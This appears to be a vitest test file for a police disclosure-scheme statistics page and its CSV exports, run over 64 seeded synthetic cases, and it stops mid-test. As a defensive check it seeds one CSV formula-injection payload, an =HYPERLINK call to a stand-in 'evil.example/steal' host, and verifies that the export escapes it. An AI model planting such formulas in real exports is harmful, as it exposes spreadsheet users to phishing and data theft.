// The statistics page and CSV export over cases seeded straight into SQLite. Every expected figure
// is worked out here in plain JS over the seeded array (UK dates with Intl, our own percentile),
// never with the service's SQL or the domain helpers, then compared with what the routes give.
import { desc, eq } from "drizzle-orm";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { toCsv } from "~/domain/csv";
import { contradictions, statisticsCsvRows, type Statistics } from "~/domain/statistics";
import * as exportRoute from "~/routes/staff.statistics.export[.]csv";
import * as returnRoute from "~/routes/staff.statistics.return[.]csv";
import * as page from "~/routes/staff.statistics._index";
import { now } from "~/services/app-clock.server";
import { countQueries, getDb, getSqlite, schema } from "~/services/db.server";
import { getStatistics } from "~/services/statistics.server";
import { insertStaff, signedIn } from "../support/staff";

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const context = { cspNonce: "t", requestId: "statistics-test", clientIp: "127.0.0.1" };
const STAGE_LABELS = { risk_check: "Immediate-risk check", interview: "Interview and verification", decision: "Decision", closure: "Closure" };
const EVIL_CODE = '=HYPERLINK("http://evil.example/steal","Click me")';

type Seed = {
  t0: number;
  channel: "online" | "phone" | "station" | "proactive";
  status: string;
  urgent: boolean;
  riskDue: number;
  interviewDue: number;
  decisionDue: number;
  riskAt: number | null;
  interviewAt: number | null;
  decidedAt: number | null;
  closedAt: number | null;
  nextDue: number | null;
  rso: boolean | null;
  disclosed: boolean | null;
  outcomes: string[];
  erased: boolean;
  /** The referral clock (abuse suspected at the risk check), and when the referral that met it was made. */
  referralDue: number | null;
  referralMade: number | null;
  /** Referrals on the case: [agency, suspected abuse, made at]. */
  referrals: [string, boolean, number][];
};

const AGENCIES = ["Children's social care", "Multi-Agency Safeguarding Hub (MASH)", "Health", "Education"] as const;
/** A name no longer on the force's list (the list was edited): still counted, after the list. */
const OLD_AGENCY = "Early help (old name)";

// ---------------------------------------------------------------------------------------------
// The seed: 64 cases over 2024 and 2025 (and just outside), deterministic
// ---------------------------------------------------------------------------------------------

function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const CHANNELS = ["online", "phone", "station", "proactive"] as const;
const nowAtSeed = now().getTime();

function makeSeeds(): Seed[] {
  const r = rng(20240601);
  const pick = <T>(list: readonly T[]) => list[Math.floor(r() * list.length)];
  const start = Date.parse("2024-01-01T00:00:00Z");
  const span = Date.parse("2026-01-01T00:00:00Z") - start;
  // Boundaries of the two ranges the tests use, in UK time (BST in June, GMT in January).
  const boundaries = [
    "2023-12-31T23:59:59.999Z", // 31 Dec 2023 UK: outside both
    "2024-01-01T00:00:00.000Z", // 1 Jan 2024 UK: first instant of the two years
    "2024-05-31T22:59:59.999Z", // 31 May 2024 23:59:59.999 BST: before 1 June
    "2024-05-31T23:00:00.000Z", // 1 June 2024 00:00 BST: first instant of June
    "2025-05-31T22:59:59.999Z", // 31 May 2025 23:59:59.999 BST: last instant of the 12 months
    "2025-05-31T23:00:00.000Z", // 1 June 2025 00:00 BST: after them
    "2025-12-31T23:59:59.999Z", // last instant of the two years
    "2026-01-01T00:00:00.000Z", // outside both
  ].map(Date.parse);
  const t0s = [...boundaries, ...Array.from({ length: 56 }, () => start + Math.floor(r() * span))];

  const list = t0s.map((t0, i) => {
    const fate = pick(["open_received", "scoped_out", "side_exit", "decided", "decided", "decided", "open_decision", "open_delivery"] as const);
    const s: Seed = {
      t0,
      channel: CHANNELS[i % 4],
      status: "received",
      urgent: r() < 0.2,
      riskDue: t0 + 24 * HOUR,
      interviewDue: t0 + 10 * DAY,
      decisionDue: t0 + 28 * DAY,
      riskAt: null,
      interviewAt: null,
      decidedAt: null,
      closedAt: null,
      nextDue: null,
      rso: null,
      disclosed: null,
      outcomes: [],
      erased: false,
      referralDue: null,
      referralMade: null,
      referrals: [],
    };
    const hours = (lo: number, hi: number) => Math.round((lo + r() * (hi - lo)) * HOUR);
    if (fate !== "open_received") {
      s.riskAt = t0 + hours(1, 40); // later than 24 hours sometimes
      if (r() < 0.15) s.outcomes.push("immediate_police_action");
    }
    switch (fate) {
      case "open_received":
        s.nextDue = s.riskDue; // long past: overdue
        break;
      case "scoped_out":
        s.status = "closed";
        s.closedAt = s.riskAt! + hours(1, 30);
        s.outcomes.push("not_progressed");
        break;
      case "side_exit":
        s.status = "closed";
        if (r() < 0.5) s.interviewAt = t0 + hours(24, 300);
        s.closedAt = (s.interviewAt ?? s.riskAt!) + hours(2, 200);
        s.outcomes.push(pick(["withdrawn", "unable_to_contact", "transferred"]));
        break;
      case "decided":
      case "open_delivery":
        s.interviewAt = t0 + hours(20, 320);
        s.decidedAt = s.interviewAt + hours(48, 700);
        s.rso = r() < 0.4;
        if (fate === "open_delivery") {
          s.status = "delivery"; // every clock met: open, not overdue
          break;
        }
        s.status = "closed";
        s.disclosed = r() < 0.45;
        s.outcomes.push(s.disclosed ? pick(["disclosure_cso", "disclosure_other"]) : "no_disclosure");
        if (r() < 0.3) s.outcomes.push("other_safeguarding");
        s.closedAt = s.decidedAt + hours(5, 240);
        break;
      case "open_decision":
        s.status = "decision";
        s.interviewAt = t0 + hours(20, 320);
        s.rso = r() < 0.5;
        s.decisionDue = nowAtSeed + 20 * DAY; // extended: due in the future, so not overdue
        s.nextDue = s.decisionDue;
        break;
    }
    s.erased = s.closedAt !== null && r() < 0.3;
    // Joint working: some checked cases had abuse suspected (a referral clock) and referrals.
    if (s.riskAt !== null && r() < 0.5) {
      s.referralDue = s.riskAt + hours(1, 8);
      const made = pick(["on_time", "late", "none"] as const);
      const at = made === "on_time" ? s.riskAt + hours(0.5, 1) : made === "late" ? s.referralDue + hours(1, 30) : null;
      if (at !== null) {
        s.referralMade = at;
        s.referrals.push([pick(["Children's social care", "Multi-Agency Safeguarding Hub (MASH)"] as const), true, at]);
      }
    }
    if (s.riskAt !== null && r() < 0.3) s.referrals.push([pick([...AGENCIES, OLD_AGENCY]), r() < 0.5, s.riskAt + hours(2, 50)]);
    return s;
  });
  // Clocks met exactly at the due moment count as within the clock.
  const exact = list.filter((s) => s.riskAt !== null && s.t0 >= Date.parse("2024-06-01T00:00:00Z") && s.t0 < Date.parse("2025-05-01T00:00:00Z"));
  for (const s of exact.slice(0, 2)) s.riskAt = s.riskDue;
  const interviewed = exact.filter((s) => s.interviewAt !== null && (s.decidedAt ?? Infinity) > s.interviewDue && (s.closedAt ?? Infinity) > s.interviewDue);
  for (const s of interviewed.slice(0, 2)) s.interviewAt = s.interviewDue;
  return list;
}

const seeds = makeSeeds();
// The one case with a crafted outcome code: a decided case received in June 2024.
const evilIndex = seeds.findIndex((s) => s.decidedAt !== null && s.closedAt !== null && new Date(s.t0).toISOString().startsWith("2024-06"));
const ids: number[] = [];

/** A decided case about a registered sex offender that led to no disclosure: a departure from the presumption (second-signed). */
const isDeparture = (s: Seed) => s.rso === true && s.decidedAt !== null && s.disclosed !== true;

function insertSeeds() {
  const sqlite = getSqlite();
  const insertCase = sqlite.prepare(`
    INSERT INTO cases (reference, status, channel, urgent, received_at, contact_types, concern, contact_details,
      risk_check_due_at, interview_due_at, decision_due_at, risk_checked_at, interviewed_at, decided_at, closed_at,
      next_due_at, subject_is_rso, disclosure_made, presumption_departure, erased_at, referral_due_at, referral_made_at, created_at, updated_at)
    VALUES (@reference, @status, @channel, @urgent, @t0, '[]', @concern, @contactDetails,
      @riskDue, @interviewDue, @decisionDue, @riskAt, @interviewAt, @decidedAt, @closedAt,
      @nextDue, @rso, @disclosed, @departure, @erasedAt, @referralDue, @referralMade, @t0, @t0)`);
  const insertOutcome = sqlite.prepare(`INSERT INTO case_outcomes (case_id, code, recorded_at) VALUES (?, ?, ?)`);
  const insertReferral = sqlite.prepare(`
    INSERT INTO case_referrals (case_id, agency, agency_name, made_at, made_by, method, shared_summary, suspected_abuse, recorded_by, recorded_at)
    VALUES (?, ?, 'Leeds City Council', ?, 'PC Seed', 'phone', 'What was shared', ?, 1, ?)`);
  const insertPerson = sqlite.prepare(`
    INSERT INTO case_people (case_id, role, position, full_name, normalised_name, details, created_at)
    VALUES (?, ?, 1, ?, ?, '{}', ?)`);
  const bool = (b: boolean | null) => (b === null ? null : b ? 1 : 0);
  sqlite.transaction(() => {
    seeds.forEach((s, i) => {
      const id = Number(
        insertCase.run({
          reference: `STAT${String(i).padStart(4, "0")}`,
          status: s.status,
          channel: s.channel,
          urgent: s.urgent ? 1 : 0,
          t0: s.t0,
          concern: s.erased ? "" : "A concern that is personal data",
          contactDetails: s.erased ? null : "Lives with the children",
          riskDue: s.riskDue,
          interviewDue: s.interviewDue,
          decisionDue: s.decisionDue,
          riskAt: s.riskAt,
          interviewAt: s.interviewAt,
          decidedAt: s.decidedAt,
          closedAt: s.closedAt,
          nextDue: s.nextDue,
          rso: bool(s.rso),
          disclosed: bool(s.disclosed),
          departure: isDeparture(s) ? 1 : 0,
          erasedAt: s.erased ? s.closedAt! + 400 * DAY : null,
          referralDue: s.referralDue,
          referralMade: s.referralMade,
        }).lastInsertRowid,
      );
      ids.push(id);
      const codes = i === evilIndex ? [...s.outcomes, EVIL_CODE] : s.outcomes;
      for (const code of codes) insertOutcome.run(id, code, s.closedAt ?? s.t0);
      for (const [agency, suspected, at] of s.referrals) insertReferral.run(id, agency, at, suspected ? 1 : 0, at);
      if (!s.erased) {
        insertPerson.run(id, "applicant", `Applicant ${i}`, `applicant ${i}`, s.t0);
        insertPerson.run(id, "subject", `Subject ${i}`, `subject ${i}`, s.t0);
      }
    });
  })();
}

// ---------------------------------------------------------------------------------------------
// Expected figures, in plain JS over the seed
// ---------------------------------------------------------------------------------------------

const ukDate = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/London", year: "numeric", month: "2-digit", day: "2-digit" });
const ukDay = (ms: number) => ukDate.format(new Date(ms)); // YYYY-MM-DD

function quantile(values: number[], p: number): number | null {
  if (values.length === 0) return null;
  const v = [...values].sort((a, b) => a - b);
  const h = (v.length - 1) * p;
  const i = Math.floor(h);
  return i + 1 < v.length ? v[i] * (1 - (h - i)) + v[i + 1] * (h - i) : v[i];
}

function expected(from: string, to: string, now: number) {
  const inRange = seeds.map((s, i) => ({ ...s, i })).filter((s) => ukDay(s.t0) >= from && ukDay(s.t0) <= to);
  const adr = (list: typeof inRange) => ({
    applications: list.length,
    rso: list.filter((s) => s.rso === true).length,
    disclosures: list.filter((s) => s.disclosed === true).length,
    decided: list.filter((s) => s.decidedAt !== null).length,
    decidedDisclosures: list.filter((s) => s.decidedAt !== null && s.disclosed === true).length,
  });
  // Right to ask: applications (online, phone, station); right to be told: proactive cases.
  const figures = (list: typeof inRange) => ({
    right_to_ask: adr(list.filter((s) => s.channel !== "proactive")),
    right_to_be_told: adr(list.filter((s) => s.channel === "proactive")),
  });
  // Financial years: 1 April to 31 March by UK date, clipped to the range.
  const fyOf = (day: string) => (Number(day.slice(5, 7)) >= 4 ? Number(day.slice(0, 4)) : Number(day.slice(0, 4)) - 1);
  const years: number[] = [];
  for (let y = fyOf(from); y <= fyOf(to); y++) years.push(y);
  const byFinancialYear = years.map((year) => {
    const yFrom = `${year}-04-01` < from ? from : `${year}-04-01`;
    const yTo = `${year + 1}-03-31` > to ? to : `${year + 1}-03-31`;
    return {
      year,
      from: yFrom,
      to: yTo,
      wholeYear: yFrom === `${year}-04-01` && yTo === `${year + 1}-03-31`,
      ...figures(inRange.filter((s) => fyOf(ukDay(s.t0)) === year)),
    };
  });
  const referralsOf = (agency: string) => {
    const list = inRange.flatMap((s) => s.referrals.map(([a, suspected, at]) => ({ a, suspected, at, s })).filter((x) => x.a === agency));
    const answering = list.filter((x) => x.s.referralDue !== null && x.at === x.s.referralMade);
    return {
      agency,
      referrals: list.length,
      suspectedAbuse: list.filter((x) => x.suspected).length,
      onTime: answering.filter((x) => x.at <= x.s.referralDue!).length,
      late: answering.filter((x) => x.at > x.s.referralDue!).length,
    };
  };
  const clocked = inRange.filter((s) => s.referralDue !== null);
  const departures = inRange.filter(isDeparture).length;
  const months: string[] = [];
  for (let d = from.slice(0, 7); d <= to.slice(0, 7); ) {
    months.push(d);
    const [y, m] = d.split("-").map(Number);
    d = m === 12 ? `${y + 1}-01` : `${y}-${String(m + 1).padStart(2, "0")}`;
  }
  const stage = (at: (s: Seed) => number | null, due: ((s: Seed) => number) | null) => {
    const reached = inRange.filter((s) => at(s) !== null);
    const durations = reached.map((s) => at(s)! - s.t0);
    return {
      reached: reached.length,
      median: quantile(durations, 0.5),
      p90: quantile(durations, 0.9),
      results: due ? inRange.filter((s) => at(s) !== null || (s.closedAt === null && due(s) < now)).length : null,
      within: due ? reached.filter((s) => at(s)! <= due(s)).length : null,
    };
  };
  const outcomeCounts = new Map<string, number>();
  for (const s of inRange) {
    const codes = s.i === evilIndex ? [...s.outcomes, EVIL_CODE] : s.outcomes;
    for (const c of codes) outcomeCounts.set(c, (outcomeCounts.get(c) ?? 0) + 1);
  }
  const total = figures(inRange);
  return {
    departures,
    total,
    byMonth: months.map((month) => ({ month, ...figures(inRange.filter((s) => ukDay(s.t0).startsWith(month))) })),
    byFinancialYear,
    byChannel: CHANNELS.map((channel) => ({ channel, ...adr(inRange.filter((s) => s.channel === channel)) })),
    referrals: {
      byAgency: [
        ...["Children's social care", "Multi-Agency Safeguarding Hub (MASH)", "Out-of-hours social care service", "Health", "Education", "Probation", "Another police force"].map(referralsOf),
        ...(inRange.some((s) => s.referrals.some(([a]) => a === OLD_AGENCY)) ? [referralsOf(OLD_AGENCY)] : []),
      ],
      total: inRange.reduce((n, s) => n + s.referrals.length, 0),
      clock: {
        cases: clocked.length,
        onTime: clocked.filter((s) => s.referralMade !== null && s.referralMade <= s.referralDue!).length,
        late: clocked.filter((s) => s.referralMade !== null && s.referralMade > s.referralDue!).length,
        overdue: clocked.filter((s) => s.referralMade === null && s.closedAt === null && s.referralDue! < now).length,
        notYetDue: clocked.filter((s) => s.referralMade === null && s.closedAt === null && s.referralDue! >= now).length,
        closedWithout: clocked.filter((s) => s.referralMade === null && s.closedAt !== null).length,
      },
    },
    timeliness: {
      risk_check: stage((s) => s.riskAt, (s) => s.riskDue),
      interview: stage((s) => s.interviewAt, (s) => s.interviewDue),
      decision: stage((s) => s.decidedAt, (s) => s.decisionDue),
      closure: stage((s) => s.closedAt, null),
    },
    outcomes: outcomeCounts,
    disclosureRate: {
      right_to_ask: total.right_to_ask.decided === 0 ? null : Math.round((total.right_to_ask.decidedDisclosures / total.right_to_ask.decided) * 1000) / 10,
      right_to_be_told: total.right_to_be_told.decided === 0 ? null : Math.round((total.right_to_be_told.decidedDisclosures / total.right_to_be_told.decided) * 1000) / 10,
    },
    today: {
      open: seeds.filter((s) => s.closedAt === null).length,
      urgent: seeds.filter((s) => s.closedAt === null && s.urgent).length,
      overdue: seeds.filter((s) => s.closedAt === null && s.nextDue !== null && s.nextDue < now).length,
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Calling the routes
// ---------------------------------------------------------------------------------------------

async function settle(run: () => unknown): Promise<Response> {
  try {
    const result = await run();
    if (result instanceof Response) return result;
    throw new Error("loader did not return a Response");
  } catch (thrown) {
    if (thrown instanceof Response) return thrown;
    throw thrown;
  }
}

const request = (path: string, cookie?: string) => new Request(`http://localhost:3000${path}`, { headers: cookie ? { Cookie: cookie } : {} });
const pageGet = (query: string, cookie?: string) => settle(() => page.loader({ request: request(`/staff/statistics${query}`, cookie), params: {}, context }));
const csvGet = (query: string, cookie?: string) =>
  settle(() => exportRoute.loader({ request: request(`/staff/statistics/export.csv${query}`, cookie), params: {}, context }));
const returnGet = (cookie?: string) => settle(() => returnRoute.loader({ request: request("/staff/statistics/return.csv", cookie), params: {}, context }));
const formQuery = (from: string, to: string) => {
  const [fy, fm, fd] = from.split("-");
  const [ty, tm, td] = to.split("-");
  return `?${new URLSearchParams({ "from-day": fd, "from-month": fm, "from-year": fy, "to-day": td, "to-month": tm, "to-year": ty })}`;
};
type PageData = { ok: boolean; errors: { field: string; message: string }[]; stats: Statistics | null; financialYear: number | null; years: number[] };

/** A strict RFC 4180 reader (CRLF records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

let manager = { cookie: "", id: 0 };
let admin = { cookie: "" };
let reviewer = { cookie: "" };

beforeAll(async () => {
  insertSeeds();
  const m = await insertStaff(["manager"]);
  manager = { cookie: (await signedIn(m.user.id)).cookie, id: m.user.id };
  admin = { cookie: (await signedIn((await insertStaff(["admin"])).user.id)).cookie };
  reviewer = { cookie: (await signedIn((await insertStaff(["reviewer"])).user.id)).cookie };
});

// ---------------------------------------------------------------------------------------------

describe("the seed", () => {
  it("covers what the figures must handle", () => {
    expect(seeds.length).toBe(64);
    expect(seeds.filter((s) => s.erased).length).toBeGreaterThan(3);
    expect(seeds.filter((s) => s.closedAt === null).length).toBeGreaterThan(3);
    expect(seeds.filter((s) => s.riskAt !== null && s.riskAt > s.riskDue).length).toBeGreaterThan(0);
    expect(seeds.filter((s) => s.disclosed === true).length).toBeGreaterThan(3);
    expect(evilIndex).toBeGreaterThanOrEqual(0);
    expect(seeds.filter((s) => s.riskAt === s.riskDue).length).toBe(2);
    expect(seeds.filter((s) => s.interviewAt === s.interviewDue).length).toBe(2);
    // Erased cases have no people rows left.
    const erasedIds = ids.filter((_, i) => seeds[i].erased);
    const people = getSqlite()
      .prepare(`SELECT count(*) AS n FROM case_people WHERE case_id IN (${erasedIds.join(",")})`)
      .get() as { n: number };
    expect(people.n).toBe(0);
  });
});

describe.each([
  ["two years (GMT ends)", "2024-01-01", "2025-12-31"],
  ["12 months (BST ends)", "2024-06-01", "2025-05-31"],
])("the page's figures for %s", (_name, from, to) => {
  let stats: Statistics;
  let want: ReturnType<typeof expected>;

  beforeAll(async () => {
    const response = await pageGet(formQuery(from, to), manager.cookie);
    expect(response.status).toBe(200);
    const data = (await response.json()) as PageData;
    expect(data.ok).toBe(true);
    stats = data.stats!;
    want = expected(from, to, now().getTime());
  });

  it("has the Annual Data Requirement totals, right to ask and right to be told apart", () => {
    expect(stats.range).toEqual({ from, to });
    expect(stats.total).toEqual(want.total);
    expect(want.total.right_to_ask.applications).toBeGreaterThan(15);
    expect(want.total.right_to_be_told.applications).toBeGreaterThan(4);
  });

  it("has the figures month by month (months without cases as 0) and by financial year", () => {
    expect(stats.byMonth).toEqual(want.byMonth);
    expect(stats.byFinancialYear).toEqual(want.byFinancialYear);
    expect(stats.byFinancialYear.length).toBeGreaterThan(1);
  });

  it("has referrals by agency (the force's list in order, then an old name) and the referral clock", () => {
    expect(stats.referrals).toEqual(want.referrals);
    const clock = want.referrals.clock;
    expect(clock.onTime).toBeGreaterThan(0);
    expect(clock.late).toBeGreaterThan(0);
    expect(clock.overdue + clock.closedWithout).toBeGreaterThan(0);
  });

  it("never contradicts itself", () => {
    expect(contradictions(stats)).toEqual([]);
  });

  it("has the figures by channel", () => {
    expect(stats.byChannel).toEqual(want.byChannel);
  });

  it("has the median and 90th percentile days to each stage, and the clock results", () => {
    for (const row of stats.timeliness) {
      const w = want.timeliness[row.stage];
      expect(row.reached, row.stage).toBe(w.reached);
      expect(row.medianMs, row.stage).toBeCloseTo(w.median!, 3);
      expect(row.p90Ms, row.stage).toBeCloseTo(w.p90!, 3);
      expect(row.clockResults, row.stage).toBe(w.results);
      expect(row.withinClock, row.stage).toBe(w.within);
    }
    expect(stats.timeliness.map((t) => t.stage)).toEqual(["risk_check", "interview", "decision", "closure"]);
    // Some clocks were missed, so "within" is not everything.
    expect(stats.timeliness[0].withinClock!).toBeLessThan(stats.timeliness[0].clockResults!);
  });

  it("has the outcome mix (every scheme outcome, 0 when none, and any other code found) and the disclosure rate", () => {
    const got = new Map(stats.outcomes.map((o) => [o.code, o.cases]));
    for (const [code, n] of want.outcomes) expect(got.get(code), code).toBe(n);
    for (const [code, n] of got) expect(n, code).toBe(want.outcomes.get(code) ?? 0);
    expect(stats.outcomes.slice(0, 10).map((o) => o.code)).toEqual([
      "disclosure_cso",
      "disclosure_other",
      "no_disclosure",
      "other_safeguarding",
      "immediate_police_action",
      "not_progressed",
      "applicant_not_verified",
      "withdrawn",
      "unable_to_contact",
      "transferred",
    ]);
    expect(stats.disclosureRate).toEqual(want.disclosureRate);
  });

  it("counts the decisions that departed from the presumption, by when the case was received", () => {
    expect(stats.presumptionDepartures).toBe(want.departures);
    expect(want.departures).toBeGreaterThan(0);
  });

  it("has today's open, urgent and overdue counts over every case", () => {
    expect({ open: stats.today.open, urgent: stats.today.urgent, overdue: stats.today.overdue }).toEqual(want.today);
    expect(want.today.overdue).toBeGreaterThan(0);
    expect(want.today.overdue).toBeLessThan(want.today.open);
  });

  it("uses six SQL statements and the agency setting for the figures and a handful for the whole page, whatever the range", async () => {
    expect((await countQueries(() => getStatistics({ from, to }))).queries).toBe(7);
    const { queries } = await countQueries(() => pageGet(formQuery(from, to), manager.cookie));
    expect(queries).toBeLessThanOrEqual(10);
  });
});

describe("the CSV export", () => {
  const from = "2024-06-01";
  const to = "2025-05-31";
  let response: Response;
  let text: string;
  let rows: string[][];
  let value: (section: string, metric: string, period: string) => string | undefined;

  beforeAll(async () => {
    response = await csvGet(`?from=${from}&to=${to}`, manager.cookie);
    text = await response.text();
    rows = parseCsv(text);
    const index = new Map(rows.map((r) => [`${r[0]}|${r[1]}|${r[2]}`, r[3]]));
    value = (section, metric, period) => index.get(`${section}|${metric}|${period}`);
  });

  it("is a CSV attachment named after the range", () => {
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="csods-statistics-${from}-to-${to}.csv"`);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(rows[0]).toEqual(["Section", "Metric", "Period", "Value"]);
    expect(rows.every((r) => r.length === 4)).toBe(true);
    // Figures only: no case's reference (moved from tests/e2e/oversight.spec.ts).
    expect(rows.some((r) => /Applications/i.test(r[1]))).toBe(true);
    for (const { reference } of getDb().select({ reference: schema.cases.reference }).from(schema.cases).all()) expect(text).not.toContain(reference);
  });

  it("holds the same figures as worked out from the seed", () => {
    const want = expected(from, to, now().getTime());
    const whole = `${from} to ${to}`;
    const adr = "Annual Data Requirement: Right to ask (applications)";
    const told = "Annual Data Requirement: Right to be told (proactive)";
    expect(value(adr, "Applications", whole)).toBe(String(want.total.right_to_ask.applications));
    expect(value(adr, "Concerned a registered sex offender", whole)).toBe(String(want.total.right_to_ask.rso));
    expect(value(adr, "Led to disclosure", whole)).toBe(String(want.total.right_to_ask.disclosures));
    expect(value(adr, "Decided", whole)).toBe(String(want.total.right_to_ask.decided));
    expect(value(told, "Applications", whole)).toBe(String(want.total.right_to_be_told.applications));
    expect(value(told, "Led to disclosure", whole)).toBe(String(want.total.right_to_be_told.disclosures));
    for (const m of want.byMonth) {
      expect(value(adr, "Applications", m.month), m.month).toBe(String(m.right_to_ask.applications));
      expect(value(adr, "Led to disclosure", m.month), m.month).toBe(String(m.right_to_ask.disclosures));
      expect(value(told, "Applications", m.month), m.month).toBe(String(m.right_to_be_told.applications));
    }
    // 1 June 2024 to 31 May 2025: part of 2024 to 2025 (10 months) and of 2025 to 2026 (2 months).
    expect(want.byFinancialYear.map((y) => y.year)).toEqual([2024, 2025]);
    expect(value(adr, "Concerned a registered sex offender", "2024 to 2025 (2024-06-01 to 2025-03-31)")).toBe(String(want.byFinancialYear[0].right_to_ask.rso));
    expect(value(adr, "Applications", "2025 to 2026 (2025-04-01 to 2025-05-31)")).toBe(String(want.byFinancialYear[1].right_to_ask.applications));
    expect(value("Referrals", "Referrals: Children's social care", whole)).toBe(String(want.referrals.byAgency[0].referrals));
    expect(value("Referrals", "Met the referral clock late: Children's social care", whole)).toBe(String(want.referrals.byAgency[0].late));
    expect(value("Referral clock", "Referral made on time", whole)).toBe(String(want.referrals.clock.onTime));
    expect(value("By channel", "Applications: Phone", whole)).toBe(String(want.byChannel[1].applications));
    const days = (ms: number | null) => (ms === null ? "" : String(Math.round((ms / DAY) * 10) / 10));
    expect(value("Timeliness", "Interview and verification: median days from receipt", whole)).toBe(days(want.timeliness.interview.median));
    expect(value("Timeliness", "Decision: 90th percentile days from receipt", whole)).toBe(days(want.timeliness.decision.p90));
    const risk = want.timeliness.risk_check;
    expect(value("Timeliness", "Immediate-risk check: within clock (%)", whole)).toBe(String(Math.round((risk.within! / risk.results!) * 1000) / 10));
    expect(value("Outcomes", "No disclosure", whole)).toBe(String(want.outcomes.get("no_disclosure") ?? 0));
    expect(value(adr, "Disclosure rate (% of decided cases)", whole)).toBe(String(want.disclosureRate.right_to_ask ?? ""));
    expect(value(told, "Disclosure rate (% of decided cases)", whole)).toBe(String(want.disclosureRate.right_to_be_told ?? ""));
    const today = rows.find((r) => r[0] === "Today" && r[1] === "Overdue cases")!;
    expect(today[3]).toBe(String(want.today.overdue));
  });

  it("has the same rows as the page shows for the range", async () => {
    const data = (await (await pageGet(formQuery(from, to), manager.cookie)).json()) as PageData;
    const stats = data.stats!;
    const whole = `${from} to ${to}`;
    for (const m of stats.byMonth) expect(value("Annual Data Requirement: Right to ask (applications)", "Applications", m.month)).toBe(String(m.right_to_ask.applications));
    // A label that looks like a formula is written with the quote in front.
    const written = (label: string) => (/^[=+\-@\t\r]/.test(label) ? `'${label}` : label);
    for (const o of stats.outcomes) expect(value("Outcomes", written(o.label), whole), o.code).toBe(String(o.cases));
    for (const t of stats.timeliness) {
      const median = t.medianMs === null ? "" : String(Math.round((t.medianMs / DAY) * 10) / 10);
      expect(value("Timeliness", `${STAGE_LABELS[t.stage]}: median days from receipt`, whole)).toBe(median);
      expect(value("Timeliness", `${STAGE_LABELS[t.stage]}: cases reaching this stage`, whole)).toBe(String(t.reached));
    }
    expect(value("Today", "Open cases", stats.today.date)).toBe(String(stats.today.open));
    // And, whole, it is exactly the page's figures written as CSV.
    expect(text).toBe(toCsv(statisticsCsvRows(stats)));
    for (const route of ["Right to ask (applications)", "Right to be told (proactive)"]) {
      expect(rows.filter((r) => r[0] === `Annual Data Requirement: ${route}`).length).toBe(4 * (1 + stats.byFinancialYear.length + stats.byMonth.length) + 1);
    }
  });

  it("never lets a formula through: the crafted outcome code arrives escaped", () => {
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""Click me"")"`);
    const cells = rows.flat();
    expect(cells).toContain(`'${EVIL_CODE}`);
    for (const cell of cells) expect(["=", "+", "-", "@", "\t", "\r"].includes(cell.charAt(0)), JSON.stringify(cell)).toBe(false);
  });

  it("logs the download as a consultation of statistics, with the dates", () => {
    const row = getDb().select().from(schema.auditLog).where(eq(schema.auditLog.actorId, manager.id)).orderBy(desc(schema.auditLog.id)).get();
    expect(row).toMatchObject({ action: "consultation", entityType: "statistics", requestId: "statistics-test" });
    expect(row!.reason).toContain(`${from} to ${to}`);
  });

  it("gives the current financial year to date when no dates are given", async () => {
    const r = await csvGet("", admin.cookie);
    expect(r.status).toBe(200);
    expect(r.headers.get("Content-Disposition")).toBe(`attachment; filename="csods-statistics-${currentYear()}-04-01-to-${ukDay(now().getTime())}.csv"`);
  });

  it.each([
    ["?from=2024-02-30&to=2025-01-01", /real date/],
    ["?from=2025-01-01&to=2024-01-01", /same as or after/],
    ["?from=yesterday&to=2025-01-01", /YYYY-MM-DD/],
    ["?from=2024-01-01", /both/],
  ])("refuses bad dates %s with 400 and a plain message", async (query, message) => {
    const r = await csvGet(query, manager.cookie);
    expect(r.status).toBe(400);
    expect(r.headers.get("Content-Type")).toBe("text/plain; charset=utf-8");
    expect(await r.text()).toMatch(message);
  });
});

/** The current financial year by the app clock, worked out here from the UK date. */
function currentYear(): number {
  const day = ukDay(now().getTime());
  return Number(day.slice(5, 7)) >= 4 ? Number(day.slice(0, 4)) : Number(day.slice(0, 4)) - 1;
}

describe("the return CSV (one row per financial year)", () => {
  let response: Response;
  let rows: string[][];

  beforeAll(async () => {
    response = await returnGet(manager.cookie);
    rows = parseCsv(await response.text());
  });

  it("is a CSV attachment with one column per figure", () => {
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="csods-annual-data-requirement-2023-to-${ukDay(now().getTime())}.csv"`);
    expect(rows[0]).toEqual([
      "Financial year",
      "From",
      "To",
      "Whole year",
      "Applications received (right to ask)",
      "Applications that concerned a registered sex offender",
      "Applications that led to a disclosure",
      "Right to be told cases (proactive)",
      "Right to be told cases that concerned a registered sex offender",
      "Right to be told cases that led to a disclosure",
    ]);
  });

  it("has one row per financial year from the first case's (31 December 2023) to the current one to date", () => {
    const years = Array.from({ length: currentYear() - 2023 + 1 }, (_, i) => 2023 + i);
    expect(rows.slice(1).map((r) => r[0])).toEqual(years.map((y) => `${y} to ${y + 1}`));
    const today = ukDay(now().getTime());
    for (const [i, year] of years.entries()) {
      const row = rows[i + 1];
      const to = year === currentYear() ? today : `${year + 1}-03-31`;
      const want = expected(`${year}-04-01`, to, now().getTime()).total;
      expect(row.slice(1, 4), String(year)).toEqual([`${year}-04-01`, to, year === currentYear() ? "No (to date)" : "Yes"]);
      expect(row.slice(4).map(Number), String(year)).toEqual([
        want.right_to_ask.applications,
